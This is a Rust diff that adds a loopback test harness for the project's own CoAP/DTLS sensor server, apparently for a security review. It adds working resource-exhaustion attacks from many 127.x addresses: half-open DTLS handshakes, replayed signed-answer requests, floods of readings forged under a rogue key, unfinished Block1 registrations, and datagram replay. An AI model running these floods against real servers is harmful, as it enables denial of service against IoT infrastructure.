@@ -318,3 +318,499 @@ pub async fn run_all(server: SocketAddr, stats: &Stats) -> Result<Vec<AttackResu
     ));
     Ok(out)
 }
+
+/// Attacks from many addresses at once (`sigil soak`): each host an address of 127.0.0.0/8
+/// on `lo`, so the server's per-host budgets (an IPv4 address each) meet as many hosts as
+/// the attacker has addresses. Every datagram sent and every answer is counted in a
+/// [`HostsLoad`]; what the server spent shows in its own counters.
+pub mod many_hosts {
+    use anyhow::{Context, Result};
+    use sigil_client::os::OsRng;
+    use sigil_coap::message::option;
+    use sigil_coap::{BlockOption, Code, ContentFormat, Message, MessageBuilder, MessageType};
+    use sigil_crypto::{CryptoProvider, RustCrypto, SecretKey, SignatureAlgorithm};
+    use sigil_identity::Identity;
+    use sigil_objects::reading::sign_reading;
+    use sigil_objects::senml::{self, Record, Value};
+    use sigil_objects::{Freshness, ReadingFormat};
+    use std::collections::BTreeMap;
+    use std::net::{IpAddr, Ipv4Addr, SocketAddr};
+    use std::sync::{Arc, Mutex};
+    use std::time::{Duration, Instant};
+    use tokio::net::UdpSocket;
+    use tokio::sync::watch;
+
+    /// What one many-hosts attack sent and got back, by answer kind.
+    #[derive(Debug, Default, Clone, serde::Serialize)]
+    pub struct HostsLoad {
+        pub name: String,
+        pub hosts: usize,
+        pub datagrams_sent: u64,
+        pub bytes_sent: u64,
+        pub answers: u64,
+        pub bytes_received: u64,
+        /// Answers by CoAP code (a signed answer as e.g. "4.09 signed"), or "dtls".
+        pub codes: BTreeMap<String, u64>,
+    }
+
+    pub type Load = Arc<Mutex<HostsLoad>>;
+
+    pub fn load(name: &str, hosts: usize) -> Load {
+        Arc::new(Mutex::new(HostsLoad {
+            name: name.into(),
+            hosts,
+            ..Default::default()
+        }))
+    }
+
+    fn sent(l: &Load, n: usize) {
+        if let Ok(mut l) = l.lock() {
+            l.datagrams_sent += 1;
+            l.bytes_sent += n as u64;
+        }
+    }
+
+    fn answered(l: &Load, answer: &[u8]) {
+        let kind = match Message::parse(answer) {
+            Ok(m) if m.option(sigil_objects::answer::SIGNATURE_OPTION).is_some() => {
+                format!("{} signed", m.code)
+            }
+            Ok(m) if m.mtype == MessageType::Reset => "Reset".into(),
+            Ok(m) => m.code.to_string(),
+            Err(_) => "dtls".into(),
+        };
+        if let Ok(mut l) = l.lock() {
+            l.answers += 1;
+            l.bytes_received += answer.len() as u64;
+            *l.codes.entry(kind).or_insert(0) += 1;
+        }
+    }
+
+    /// The `i`-th address of a block of hosts: 127.0.`block + i / 256`.`i % 256`.
+    pub fn host(block: u8, i: usize) -> Ipv4Addr {
+        Ipv4Addr::new(127, 0, block.wrapping_add((i / 256) as u8), (i % 256) as u8)
+    }
+
+    async fn socket(ip: Ipv4Addr, server: SocketAddr) -> Result<UdpSocket> {
+        let s = UdpSocket::bind(SocketAddr::new(IpAddr::V4(ip), 0))
+            .await
+            .with_context(|| format!("binding {ip} (the soak needs 127.0.0.0/8 on lo)"))?;
+        s.connect(server).await?;
+        Ok(s)
+    }
+
+    /// Every answer waiting on `s`, counted.
+    fn drain(s: &UdpSocket, l: &Load) {
+        let mut buf = [0u8; 2048];
+        while let Ok(n) = s.try_recv(&mut buf) {
+            answered(l, &buf[..n]);
+        }
+    }
+
+    async fn pause(d: Duration, stop: &mut watch::Receiver<bool>) {
+        tokio::select! {
+            _ = tokio::time::sleep(d) => {}
+            _ = stop.changed() => {}
+        }
+    }
+
+    /// A CoAP request with options in number order; `extra` are (number, value) pairs above
+    /// Uri-Query's.
+    #[allow(clippy::too_many_arguments)]
+    pub fn request(
+        code: Code,
+        mid: u16,
+        token: &[u8],
+        path: &[&str],
+        cf: Option<u16>,
+        query: &[String],
+        block1: Option<BlockOption>,
+        extra: &[(u16, &[u8])],
+        payload: &[u8],
+    ) -> Vec<u8> {
+        let mut buf = vec![0u8; payload.len() + 512];
+        let Ok(mut b) = MessageBuilder::new(&mut buf, MessageType::Confirmable, code, mid, token)
+        else {
+            return Vec::new();
+        };
+        for p in path {
+            let _ = b.option(option::URI_PATH, p.as_bytes());
+        }
+        if let Some(cf) = cf {
+            let _ = b.uint_option(option::CONTENT_FORMAT, u32::from(cf));
+        }
+        for q in query {
+            let _ = b.option(option::URI_QUERY, q.as_bytes());
+        }
+        if let Some(b1) = block1 {
+            if let Ok((v, n)) = b1.encode() {
+                let _ = b.option(option::BLOCK1, &v[..n]);
+            }
+        }
+        for (n, v) in extra {
+            let _ = b.option(*n, v);
+        }
+        match b.finish_with_payload(payload) {
+            Ok(n) => {
+                buf.truncate(n);
+                buf
+            }
+            Err(_) => Vec::new(),
+        }
+    }
+
+    /// One handshake taken to the server's first flight after the cookie exchange, then
+    /// abandoned: a half-open handshake held in the server's table. False when the server
+    /// stopped answering within a second.
+    async fn half_open_once(sock: &UdpSocket, coap: bool, identity: &str, l: &Load) -> bool {
+        let start = Instant::now();
+        let now = || crate::util::since(start);
+        let creds = sigil_dtls::Credentials::Psk {
+            identity: identity.as_bytes(),
+            key: &[7u8; 16],
+        };
+        let mut buf = vec![0u8; 2048];
+        let mut out = vec![0u8; sigil_dtls_coap::MAX_DATAGRAM];
+        let mut answers = 0;
+        if coap {
+            let Ok(mut hs) = sigil_dtls_coap::Client::connect(
+                RustCrypto,
+                sigil_dtls::NoTrust,
+                sigil_dtls_coap::CarrierConfig::default(),
+                &mut OsRng,
+                creds,
+                now(),
+            ) else {
+                return false;
+            };
+            while answers < 2 {
+                while let Some(n) = hs.poll_transmit(now(), &mut out) {
+                    sent(l, n);
+                    let _ = sock.send(&out[..n]).await;
+                }
+                match tokio::time::timeout(Duration::from_secs(1), sock.recv(&mut buf)).await {
+                    Ok(Ok(n)) => {
+                        answered(l, &buf[..n]);
+                        if hs.handle_datagram(now(), &buf[..n], &mut OsRng).is_err() {
+                            return false;
+                        }
+                        answers += 1;
+                    }
+                    _ => return false,
+                }
+            }
+        } else {
+            let Ok(mut conn) = sigil_dtls::Connection::connect(
+                RustCrypto,
+                sigil_dtls::NoTrust,
+                sigil_dtls::Config::default(),
+                &mut OsRng,
+                creds,
+                now(),
+            ) else {
+                return false;
+            };
+            while answers < 2 {
+                while let Some(n) = conn.poll_transmit(now(), &mut out) {
+                    sent(l, n);
+                    let _ = sock.send(&out[..n]).await;
+                }
+                match tokio::time::timeout(Duration::from_secs(1), sock.recv(&mut buf)).await {
+                    Ok(Ok(n)) => {
+                        answered(l, &buf[..n]);
+                        let _ = conn.handle_datagram(now(), &buf[..n]);
+                        answers += 1;
+                    }
+                    _ => return false,
+                }
+            }
+        }
+        true
+    }
+
+    /// Issue 25 finding 3: `hosts` addresses (127.0.`block`.*) each holding one half-open
+    /// handshake, as DTLS records or over the CoAP carrier (`PUT /dtls`), renewed every
+    /// `renew` (spread over the period, so about `hosts / renew` ClientHellos a second).
+    pub async fn half_open_holders(
+        server: SocketAddr,
+        block: u8,
+        hosts: usize,
+        coap: bool,
+        renew: Duration,
+        l: Load,
+        stop: watch::Receiver<bool>,
+    ) -> Result<()> {
+        let mut tasks = Vec::new();
+        for i in 0..hosts {
+            let sock = socket(host(block, i), server).await?;
+            let (l, mut stop) = (l.clone(), stop.clone());
+            let offset = renew.mul_f64(i as f64 / hosts.max(1) as f64);
+            tasks.push(tokio::spawn(async move {
+                pause(offset, &mut stop).await;
+                let identity = format!("holder-{block}-{i}");
+                while !*stop.borrow() {
+                    half_open_once(&sock, coap, &identity, &l).await;
+                    pause(renew, &mut stop).await;
+                }
+            }));
+        }
+        for t in tasks {
+            let _ = t.await;
+        }
+        Ok(())
+    }
+
+    /// Issue 25 finding 2: a public reading (anyone reads a sensor's latest one) published
+    /// again from `hosts` addresses, each asking for a signed answer (option 65000): on old
+    /// servers every one is a signed 4.09 from the same signing budget as registrations.
+    /// Each host sends one a `per_host` period.
+    #[allow(clippy::too_many_arguments)]
+    pub async fn resync_replayers(
+        server: SocketAddr,
+        block: u8,
+        hosts: usize,
+        href: String,
+        reading: Vec<u8>,
+        per_host: Duration,
+        l: Load,
+        stop: watch::Receiver<bool>,
+    ) -> Result<()> {
+        let path: Vec<String> = href.split('/').map(str::to_string).collect();
+        // Groups of 50 hosts per task.
+        let mut tasks = Vec::new();
+        for g in (0..hosts).step_by(50) {
+            let mut socks = Vec::new();
+            for i in g..(g + 50).min(hosts) {
+                socks.push(socket(host(block, i), server).await?);
+            }
+            let (l, mut stop, path, reading) =
+                (l.clone(), stop.clone(), path.clone(), reading.clone());
+            tasks.push(tokio::spawn(async move {
+                let p: Vec<&str> = path.iter().map(String::as_str).collect();
+                let mut mid = g as u16;
+                while !*stop.borrow() {
+                    let round = Instant::now();
+                    for s in &socks {
+                        mid = mid.wrapping_add(1);
+                        let d = request(
+                            Code::PUT,
+                            mid,
+                            &mid.to_be_bytes(),
+                            &p,
+                            Some(ContentFormat::COSE_SIGN1.0),
+                            &[],
+                            None,
+                            &[(sigil_objects::answer::REQUIRE_OPTION, &[])],
+                            &reading,
+                        );
+                        sent(&l, d.len());
+                        let _ = s.send(&d).await;
+                        drain(s, &l);
+                    }
+                    pause(per_host.saturating_sub(round.elapsed()), &mut stop).await;
+                }
+                for s in &socks {
+                    drain(s, &l);
+                }
+            }));
+        }
+        for t in tasks {
+            let _ = t.await;
+        }
+        Ok(())
+    }
+
+    /// Forged readings for `victim` (a registered P-256 sensor): its `kid`, sequence numbers
+    /// above `above` (fresh, within the window), signed by another key. Each costs the
+    /// server a P-256 verification unless something cheaper refuses it first.
+    pub fn forged_readings(victim: &Identity, above: u64, count: u64) -> Result<Vec<Vec<u8>>> {
+        let mut k = [0u8; 32];
+        sigil_crypto::Rng::fill(&mut OsRng, &mut k).map_err(|e| anyhow::anyhow!("{e}"))?;
+        k[0] &= 0x7f;
+        k[31] |= 1;
+        let rogue = SecretKey::from_bytes(SignatureAlgorithm::EcdsaP256, &k)
+            .map_err(|e| anyhow::anyhow!("{e}"))?;
+        let _ = RustCrypto.public_key(&rogue);
+        let records = [Record {
+            name: Some("t"),
+            unit: Some("Cel"),
+            value: Some(Value::Number(21.5)),
+            ..Default::default()
+        }];
+        let mut senml_buf = [0u8; 128];
+        let n = senml::encode_cbor(&records, &mut senml_buf)?;
+        let mut out = Vec::new();
+        for seq in above + 1..=above + count {
+            let mut scratch = [0u8; 512];
+            let mut signed = [0u8; 512];
+            let len = sign_reading(
+                &RustCrypto,
+                &rogue,
+                victim,
+                ReadingFormat::Cose,
+                &Freshness {
+                    seq,
+                    lsb_bits: None,
+                    timestamp: None,
+                },
+                &senml_buf[..n],
+                &mut scratch,
+                &mut signed,
+            )
+            .map_err(|e| anyhow::anyhow!("{e}"))?;
+            out.push(signed[..len].to_vec());
+        }
+        Ok(out)
+    }
+
+    /// Issue 25 finding 4: the forged readings sent to the victim's topic from `hosts`
+    /// addresses, each host one a `per_host` period.
+    #[allow(clippy::too_many_arguments)]
+    pub async fn verification_flood(
+        server: SocketAddr,
+        block: u8,
+        hosts: usize,
+        href: String,
+        forged: Vec<Vec<u8>>,
+        per_host: Duration,
+        l: Load,
+        stop: watch::Receiver<bool>,
+    ) -> Result<()> {
+        let path: Vec<String> = href.split('/').map(str::to_string).collect();
+        let forged = Arc::new(forged);
+        let mut tasks = Vec::new();
+        for g in (0..hosts).step_by(64) {
+            let mut socks = Vec::new();
+            for i in g..(g + 64).min(hosts) {
+                socks.push(socket(host(block, i), server).await?);
+            }
+            let (l, mut stop, path, forged) =
+                (l.clone(), stop.clone(), path.clone(), forged.clone());
+            tasks.push(tokio::spawn(async move {
+                let p: Vec<&str> = path.iter().map(String::as_str).collect();
+                let mut mid = g as u16;
+                let mut k = g;
+                while !*stop.borrow() {
+                    let round = Instant::now();
+                    for s in &socks {
+                        mid = mid.wrapping_add(1);
+                        k += 1;
+                        let d = request(
+                            Code::PUT,
+                            mid,
+                            &mid.to_be_bytes(),
+                            &p,
+                            Some(ContentFormat::COSE_SIGN1.0),
+                            &[],
+                            None,
+                            &[],
+                            &forged[k % forged.len()],
+                        );
+                        sent(&l, d.len());
+                        let _ = s.send(&d).await;
+                        drain(s, &l);
+                    }
+                    pause(per_host.saturating_sub(round.elapsed()), &mut stop).await;
+                }
+            }));
+        }
+        for t in tasks {
+            let _ = t.await;
+        }
+        Ok(())
+    }
+
+    /// Issue 25 finding 5: three hosts (127.0.`block`.1-3) opening Block1 registrations with
+    /// 16-byte first blocks and never finishing them, from `ports` source ports each, `uris`
+    /// endpoints per port, renewed every `renew`.
+    pub async fn block1_fill(
+        server: SocketAddr,
+        block: u8,
+        ports: usize,
+        uris: usize,
+        renew: Duration,
+        l: Load,
+        stop: watch::Receiver<bool>,
+    ) -> Result<()> {
+        let mut socks = Vec::new();
+        for h in 1..=3 {
+            for _ in 0..ports {
+                socks.push(socket(host(block, h), server).await?);
+            }
+        }
+        let mut stop = stop;
+        let payload = [b'x'; 16];
+        let mut mid = 0u16;
+        while !*stop.borrow() {
+            let round = Instant::now();
+            for (i, s) in socks.iter().enumerate() {
+                for u in 0..uris {
+                    mid = mid.wrapping_add(1);
+                    let d = request(
+                        Code::POST,
+                        mid,
+                        &mid.to_be_bytes(),
+                        &["rd"],
+                        Some(ContentFormat::LINK_FORMAT.0),
+                        &[format!("ep=fill-{i}-{u}")],
+                        Some(BlockOption::new(0, true, 0)),
+                        &[],
+                        &payload,
+                    );
+                    sent(&l, d.len());
+                    let _ = s.send(&d).await;
+                }
+                drain(s, &l);
+                if i % 32 == 31 {
+                    tokio::task::yield_now().await;
+                }
+            }
+            pause(renew.saturating_sub(round.elapsed()), &mut stop).await;
+        }
+        for s in &socks {
+            drain(s, &l);
+        }
+        Ok(())
+    }
+
+    /// A CryptoDiet replayer: `datagrams` (a node's recorded hello, then its recorded
+    /// messages) sent to `node` from `hosts` addresses, one round every `period`. What the node
+    /// sends back to those addresses is counted as answers: a node that holds no slot for an
+    /// unproven address sends it nothing.
+    pub async fn diet_replayers(
+        node: SocketAddr,
+        block: u8,
+        hosts: usize,
+        datagrams: Arc<Mutex<Vec<Vec<u8>>>>,
+        period: Duration,
+        l: Load,
+        stop: watch::Receiver<bool>,
+    ) -> Result<()> {
+        let mut socks = Vec::new();
+        for i in 0..hosts {
+            socks.push(socket(host(block, i), node).await?);
+        }
+        let mut stop = stop;
+        while !*stop.borrow() {
+            let round = Instant::now();
+            let recorded = datagrams.lock().map(|d| d.clone()).unwrap_or_default();
+            for (i, s) in socks.iter().enumerate() {
+                for d in &recorded {
+                    sent(&l, d.len());
+                    let _ = s.send(d).await;
+                }
+                drain(s, &l);
+                if i % 32 == 31 {
+                    tokio::task::yield_now().await;
+                }
+            }
+            pause(period.saturating_sub(round.elapsed()), &mut stop).await;
+        }
+        // What the node sent since the last round.
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        for s in &socks {
+            drain(s, &l);
+        }
+        Ok(())
+    }
+}
